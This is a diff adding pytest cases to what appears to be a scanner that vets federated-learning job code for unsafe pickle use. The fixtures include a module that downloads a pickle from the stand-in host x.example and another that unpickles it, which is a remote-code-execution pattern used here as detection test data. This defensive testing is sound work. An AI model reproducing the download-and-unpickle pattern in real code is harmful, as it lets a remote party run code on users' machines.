@@ -132,3 +132,28 @@ def test_a_literal_that_is_the_modules_name_still_makes_it_run(tmp_path, literal
     report = kit.scan_files(tmp_path, {"job.py": launcher, "client.py": client})
     assert not kit.holds(report, "unvouched.launcher-not-run"), kit.findings(report)
     assert report.decision is Decision.REJECT, kit.findings(report)
+
+
+# ---- the round trip split across the job's modules ----------------------------------------------------------------
+
+@pytest.mark.parametrize("stage", [
+    'import base64\nK = "gASVAAAAAAAAAAB9lC4="\ndef stage(path):\n    with open(path, "wb") as f:\n'
+    '        f.write(base64.b64decode(K))\n',
+    'import urllib.request\ndef stage(path):\n    urllib.request.urlretrieve("https://x.example/w.pkl", path)\n',
+])
+def test_a_payload_written_by_one_module_and_unpickled_by_another_rejects(tmp_path, stage):
+    client = ('import pickle, sys\nimport nvflare.client as flare\nfrom warm import stage\nstage(sys.argv[1])\n'
+              'with open(sys.argv[1], "rb") as f:\n    state = pickle.load(f)\nflare.init()\n'
+              'while flare.is_running():\n    flare.send(flare.receive())\n')
+    report = kit.scan_files(tmp_path, {"client.py": client, "warm.py": stage})
+    assert kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
+    assert report.decision is Decision.REJECT, kit.findings(report)
+
+
+def test_another_modules_plain_writes_leave_a_local_pickle_a_capability(tmp_path):
+    client = ('import pickle, sys\nfrom report import save\nsave(sys.argv[2], {"acc": 1.0})\n'
+              'with open(sys.argv[1], "rb") as f:\n    state = pickle.load(f)\n')
+    report_py = 'import json\ndef save(path, metrics):\n    with open(path, "w") as f:\n        f.write(json.dumps(metrics))\n'
+    report = kit.scan_files(tmp_path, {"client.py": client, "report.py": report_py})
+    assert kit.holds(report, "deserialization.local-pickle"), kit.findings(report)
+    assert report.decision is Decision.ESCALATE, kit.findings(report)
